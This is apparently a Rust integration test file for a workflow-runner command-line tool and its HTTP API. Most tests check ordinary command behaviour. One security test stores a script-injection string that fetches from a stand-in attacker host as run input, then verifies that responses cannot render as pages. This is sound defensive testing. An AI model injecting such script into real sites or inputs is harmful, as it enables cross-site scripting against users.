//! What commands say where little is to be done: each says so, and what would be.

use outlast_tests::world::World;
use serde_json::json;

/// A run is drawn from the version that it has, without a file; one in a file is another version or another flow.
#[test]
fn a_run_is_drawn_as_it_is() {
    let world = World::with_flows();
    let _host = world.host(&["--no-workers", "flows/desk.flow"]);
    world.begin("Desk", "r", &json!({ "topic": "tea" }));
    let drawn = world.run(&["graph", "--run", "r"]);
    assert!(drawn.code == Some(0) && drawn.stdout.contains("Hear"), "{drawn:?}");
    let told = world.json(&["graph", "--run", "r", "--json"]);
    assert_eq!((&told["flow"], &told["run"], &told["file"]), (&json!("Desk"), &json!("r"), &json!(null)));
    world.write("newer.flow", &world.file("flows/desk.flow").replace("24h", "25h"));
    let newer = world.run(&["graph", "newer.flow", "--run", "r"]);
    assert!(newer.code == Some(0) && newer.stderr.contains("another version of Desk"), "{newer:?}");
    let other = world.run(&["graph", "flows/graded.flow", "--run", "r"]);
    assert!(other.code == Some(2) && other.stderr.contains("Desk"), "{other:?}");
}

#[test]
fn versions_differ_in_what_was_changed_and_nothing_else() {
    let world = World::with_flows();
    world.write("newer.flow", &world.file("flows/desk.flow").replace("May {topic}", "Shall {topic}"));
    let told = world.run(&["diff", "flows/desk.flow", "newer.flow"]);
    assert_eq!((told.code, told.stdout.as_str()), (Some(0), "Desk: changed\n  changed  state Owner\n"));
    let parts = world.json(&["diff", "flows/desk.flow", "newer.flow", "--json"]);
    assert_eq!(parts["flows"][0]["parts"], json!([{ "part": "state Owner", "change": "changed" }]));
}

#[test]
fn there_may_be_nothing_to_release_and_nothing_to_migrate() {
    let world = World::with_flows();
    let migrated = world.run(&["migrate", "--flow", "Desk", "--to", "flows/desk.flow"]);
    assert!(
        migrated.code == Some(0) && migrated.stderr.contains("no run of Desk is unfinished"),
        "{migrated:?}"
    );
    let _host = world.host(&["--no-workers"]);
    world.begin("Desk", "r", &json!({ "topic": "tea" }));
    let released = world.run(&["release", "r"]);
    assert_eq!(released.code, Some(2), "{released:?}");
    assert!(
        released.stderr.contains("run r is not quarantined") && released.stderr.contains("doctor"),
        "{released:?}"
    );
    let nobody = world.run(&["release", "nobody"]);
    assert!(nobody.code == Some(2) && nobody.stderr.contains("no run nobody"), "{nobody:?}");
}

#[test]
fn a_run_that_a_schedule_started_by_hand_needs_a_host() {
    let world = World::with_flows();
    let add =
        ["schedule", "add", "s", "flows/graded.flow", "--cron", "0 0 * * *", "--input", "{\"name\": \"a\"}"];
    assert_eq!(world.run(&add).code, Some(0));
    let started = world.run(&["schedule", "run-now", "s"]);
    let run = started.stdout.trim();
    assert!(started.code == Some(0) && started.stderr.contains(&format!("run --id {run}")), "{started:?}");
}

/// A batch counts the rows of its own lines, and takes no time-out of nothing and no place that cannot be.
#[test]
fn a_batch_counts_what_it_was_given() {
    let world = World::with_flows();
    world.write("bad.jsonl", "{\"name\": \"b\", \"grade\": \"bad\"}\n");
    world.write("good.jsonl", "{\"name\": \"a\"}\n");
    let batch = |inputs: &str, out: &str, more: &[&str]| {
        let words = ["batch", "flows/graded.flow", "--inputs", inputs, "--out", out];
        world.run(&[&words[..], more].concat())
    };
    assert_eq!(batch("bad.jsonl", "out.jsonl", &[]).code, Some(5));
    let good = batch("good.jsonl", "out.jsonl", &[]);
    assert!(good.code == Some(0) && good.stderr.contains("1 line: 1 done"), "{good:?}");
    let again = batch("bad.jsonl", "out.jsonl", &[]);
    assert!(again.code == Some(5) && again.stderr.contains("1 line: 0 done, 1 failed"), "{again:?}");
    for (out, more, said) in [
        ("nowhere/out.jsonl", &[][..], "nowhere/out.jsonl"),
        (".", &[], "--out"),
        ("o.jsonl", &["--item-timeout", "0s"], "more than nothing"),
        ("o.jsonl", &["--item-timeout", "200000d"], "at most a hundred years"),
    ] {
        let refused = batch("good.jsonl", out, more);
        assert!(refused.code == Some(2) && refused.stderr.contains(said), "{out}: {refused:?}");
    }
}

/// Case SEC-04: whatever text a run holds, no answer of the server is a page, and a browser is told not to make one of it.
#[test]
fn no_answer_can_be_read_as_a_page() {
    let world = World::with_flows();
    let (_host, api) = world.serve(&["--no-workers", "flows/desk.flow"]);
    let script = "<script>fetch('http://evil.example')</script>";
    world.begin("Desk", "r", &json!({ "topic": script }));
    assert_eq!(world.run(&["terminate", "r"]).code, Some(0));
    for path in [
        "/v1/runs/r",
        "/v1/runs/r/events",
        "/v1/runs/r/stream",
        "/v1/runs?flow=%3Cscript%3E",
        "/v1/runs/%3Cscript%3E",
        "/x",
    ] {
        let answer = api.get(path);
        let header = |name: &str| answer.headers.get(name).cloned().unwrap_or_default();
        let kind = header("content-type");
        assert!(kind.starts_with("application/json") || kind == "text/event-stream", "{path}: {kind}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert!(header("content-security-policy").contains("default-src 'none'"), "{path}");
    }
}
